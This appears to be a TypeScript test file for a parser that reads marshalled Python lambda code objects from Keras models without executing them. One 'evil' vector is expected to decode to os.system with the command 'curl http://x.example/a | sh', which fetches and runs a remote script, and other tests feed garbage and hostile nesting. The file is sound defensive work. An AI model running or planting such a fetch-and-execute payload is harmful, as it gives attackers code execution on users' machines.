/**
 * The marshal reader on code objects written by CPython 2.7 … 3.13 (`marshal.dumps(f.__code__)`,
 * base64 as Keras stores Lambda layers): names and constants come out in every layout, nothing runs.
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { marshalStrings, readCodeObject } from './marshal.js';
import { MARSHAL_VECTORS as VECTORS } from '../../test/helpers/marshal-vectors.js';


const b64 = (s: string) => Uint8Array.from(atob(s), (c) => c.charCodeAt(0));

describe('marshal code objects', () => {
  for (const [version, kind, data] of VECTORS) {
    it(`Python ${version} ${kind} lambda`, () => {
      const f = readCodeObject(b64(data));
      assert.ok(f, 'parsed');
      assert.equal(f.name, '<lambda>');
      if (kind === 'evil') {
        assert.deepEqual(f.names, ['__import__', 'system']);
        assert.deepEqual(f.strings.filter((s) => s !== '<lambda>'), ['os', 'curl http://x.example/a | sh']);
      } else {
        assert.deepEqual(f.names, ['K', 'sum']);
        assert.deepEqual(f.strings, ['axis']);
      }
    });
  }

  it('garbage, truncation and hostile nesting are refused, not thrown', () => {
    const evil = b64(VECTORS[6]![2]);
    assert.equal(readCodeObject(evil.subarray(0, 60)), undefined);
    assert.equal(readCodeObject(Uint8Array.from([0x63, 0xff, 0xff, 0xff, 0x7f])), undefined);
    assert.equal(readCodeObject(new Uint8Array(0)), undefined);
    // 100k nested tuples: bounded by the depth limit
    const deep = new Uint8Array(200_005);
    deep[0] = 0x63;
    for (let i = 1; i < deep.length; i++) deep[i] = i % 2 ? 0x29 : 0x01;
    assert.equal(readCodeObject(deep), undefined);
    assert.ok(marshalStrings(evil).includes('__import__'));
  });
});
